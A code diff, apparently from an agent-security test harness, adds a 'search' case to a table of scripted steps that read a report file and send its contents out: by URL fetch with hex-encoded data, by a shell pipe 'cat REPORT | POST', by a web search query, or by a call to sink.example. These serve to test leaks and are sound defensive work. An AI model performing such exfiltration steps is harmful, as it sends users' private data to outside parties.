@@ -124,6 +124,7 @@ _PAGE_STEPS: dict[str, tuple[Step, ...]] = {
     "fragment": (read(REPORT), call("web_fetch", url=f"{NEWS}/%name%?%last|hex%#x")),
     "command": (sh(f"cat {REPORT} | {POST}"),),
     "connected-command": (sh(f"cat {REPORT} | {POST}", network=True),),
+    "search": (read(REPORT), call("web_search", query="%last%")),
     "without-reading": (call("web_fetch", url="http://sink.example:%port%/i-am-here"),),
 }
 PAGES = tuple(
